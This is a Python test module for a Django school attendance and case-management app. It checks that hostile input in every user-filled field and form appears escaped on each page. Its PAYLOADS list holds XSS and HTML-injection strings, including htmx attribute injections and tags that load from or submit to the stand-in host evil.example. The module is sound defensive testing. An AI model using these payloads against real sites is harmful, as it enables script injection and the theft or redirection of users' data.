"""Hostile text in every field that people fill in reaches no page unescaped (T16 of security.md)."""

from datetime import timedelta
from html import escape
from uuid import uuid4

import pytest
from django.urls import reverse
from django.utils import timezone

from attendance import actions as concerns
from attendance.models import Concern
from cases.actions import answers, closing, notes, replies, work
from cases.models import Case
from tests.factories.attendance import SignalFactory
from tests.factories.cases import WORDS, Story, make_cast
from tests.factories.schools import EnrolmentFactory, PupilFactory

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "\"><b hx-get='/people/' hx-trigger='load'>",
    "' hx-post='/sign-out/' hx-trigger='load' '",
    "<div hx-on:click='alert(1)'>",
    "<div data-hx-get='//evil.example/' data-hx-trigger='load'>",
    "<div data-hx-on:htmx:load='alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src='//evil.example'></iframe>",
    "<form action='//evil.example'><input name=q>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href='//evil.example'>",
    "</textarea><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    "{{ 7|add:7 }}<i>{% csrf_token %}",
    "<!--<img src=x onerror=alert(4)>-->",
    "<math><mi xlink:href='javascript:alert(5)'>",
    "&lt;script&gt;<u>alert(6)</u>",
)


def hostile(field, length=None):
    """Return a text for `field` with every payload in it, or as many as there is room for; each can be told apart."""
    words = [f"{field}-{number} {payload}" for number, payload in enumerate(PAYLOADS)]
    if length is None:
        return "\n".join(words)
    fitting = []
    for word in words:
        if len("\n".join([*fitting, word])) <= length:
            fitting.append(word)
    return "\n".join(fitting)


@pytest.fixture
def cast(db):
    """Return a cast whose names are hostile."""
    cast = make_cast()
    for member in (cast.counsellor, cast.worker, cast.principal):
        member.user.given_name = hostile("given_name", 80)
        member.user.family_name = hostile("family_name", 80)
        member.user.save()
        member.title = hostile("title", 60)
        member.save()
        member.unit.name = hostile("unit", 100) + str(member.unit.pk)[:4]
        member.unit.save()
    return cast


@pytest.fixture
def pupil(cast):
    """Return a pupil with a hostile name, in the cast's class."""
    pupil = PupilFactory(given_name=hostile("pupil_given", 80), family_name=hostile("pupil_family", 80))
    EnrolmentFactory(pupil=pupil, class_group=cast.class_group)
    return pupil


def fetched(client, member, *addresses):
    """Return the pages as the member gets them."""
    client.force_login(member.user)
    answers = [client.get(address) for address in addresses]
    assert {answer.status_code for answer in answers} == {200}, [answer.status_code for answer in answers]
    return [answer.content.decode() for answer in answers]


def concern_pages(client, cast, pupil, now):
    """Log and answer a concern full of hostile text, and give the pages that show it."""
    concern = concerns.log_concern(
        pupil=pupil, submission=uuid4(), signs=[], text=hostile("concern"), pupil_words=hostile("pupil_words"),
        talked="yes", harm_suspected="no", by=cast.counsellor, at=now,
    )  # fmt: skip
    address = reverse("attendance:concern_detail", args=[concern.pk])
    yield from fetched(client, cast.counsellor, address, reverse("attendance:pupil_detail", args=[pupil.pk]))
    concerns.answer_concern(
        concern=concern, answer=Concern.Answer.FOLLOW, text=hostile("answer_text"), by=cast.counsellor, at=now
    )
    yield from fetched(client, cast.counsellor, address)


def test_hostile_text_is_escaped_wherever_it_is_shown(client, cast, pupil, monkeypatch):
    now = timezone.now()
    for name in ("why_now", "what_hinders", "help_wanted", "tried", "pupil_words", "contact"):
        monkeypatch.setitem(WORDS, name, hostile(name))
    SignalFactory(enrolment=pupil.enrolments.get())
    pages = [*concern_pages(client, cast, pupil, now)]

    story = Story(cast=cast, pupil=pupil, at=now).send()
    case, assess = "cases:case_detail", reverse("cases:assess_request", args=[story.referral.pk])
    detail = reverse(case, args=[story.case.pk])
    pages += fetched(client, cast.worker, assess, reverse("cases:inbox"))
    answers.ask_question(
        referral=story.referral, text=hostile("question"), due_on=story.days(5), by=cast.worker, at=now
    )
    pages += fetched(client, cast.counsellor, detail, "/")
    replies.answer_question(question=story.question, answer=hostile("reply"), by=cast.counsellor, at=now)
    pages += fetched(client, cast.worker, assess)
    story._again().accept().meet()
    work.give_feedback(referral=story.referral, text=hostile("feedback"), by=cast.worker, at=now)
    notes.write_internal_note(
        case=story.case, text=hostile("note"), submission=uuid4(), by=cast.counsellor, at=now + timedelta(minutes=1)
    )
    pages += fetched(client, cast.counsellor, detail, "/", reverse("cases:internal_notes", args=[story.case.pk]))
    story.complete()
    closing.close_case(
        case=story.case, outcome=Case.Outcome.IMPROVED, final_word=hostile("final_word"), by=cast.counsellor, at=now
    )
    pages += fetched(client, cast.counsellor, detail, reverse("cases:case_list"), reverse("attendance:pupil_list"))

    declined = Story(cast=cast, pupil=EnrolmentFactory(class_group=cast.class_group).pupil, at=now).send()
    answers.decline_request(
        referral=declined.referral, reason=cast.reason, rationale=hostile("rationale"), advice=hostile("advice"),
        next_holder=cast.counsellor.unit, next_on=declined.days(10), by=cast.worker, at=now,
    )  # fmt: skip
    respond = reverse("cases:respond_to_no", args=[declined.referral.pk])
    pages += fetched(client, cast.counsellor, reverse(case, args=[declined.case.pk]), respond)
    pages += fetched(client, cast.principal, reverse("accounts:people"), "/account/", reverse("cases:stalled_list"))

    assert unescaped(pages) == []
    assert len(escaped(pages)) >= 200


def test_hostile_text_that_is_sent_back_in_a_form_is_escaped(client, cast, confirm):
    client.force_login(cast.principal.user)
    confirm(client)
    names = ("given_name", "family_name", "email", "title", "valid_from", "unit", "role")
    pages = [
        client.post("/people/invite/", {name: hostile(f"form-{name}") for name in names}).content.decode(),
        client.get("/people/", {"show": hostile("show"), "page": hostile("page")}).content.decode(),
        client.post("/sign-in/", {"login": hostile("login"), "next": hostile("next")}).content.decode(),
        client.get("/nothing/" + PAYLOADS[0]).content.decode(),
    ]

    assert unescaped(pages) == []
    assert len(escaped(pages)) >= 50


def unescaped(pages):
    """Return the payloads that stand in a page as they were typed."""
    return sorted({payload for page in pages for payload in PAYLOADS if payload in page})


def escaped(pages):
    """Return the field and payload of every text that was shown escaped."""
    fields = {
        "concern", "pupil_words", "answer_text", "why_now", "what_hinders", "help_wanted", "tried", "question", "reply",
        "feedback", "note", "final_word", "rationale", "advice", "given_name", "family_name", "title", "unit",
        "pupil_given", "pupil_family", *(f"form-{name}" for name in ("given_name", "family_name", "email", "title")),
        "form-valid_from", "login",
    }  # fmt: skip
    text = "".join(pages).replace("<br>", "\n")
    return {
        (field, number)
        for field in fields
        for number, payload in enumerate(PAYLOADS)
        if escape(f"{field}-{number} {payload}") in text
    }


def test_text_that_is_not_escaped_is_found():
    page = f"<p>{PAYLOADS[0]}</p><p>{escape(PAYLOADS[1])}</p>"

    assert unescaped([page]) == [PAYLOADS[0]]
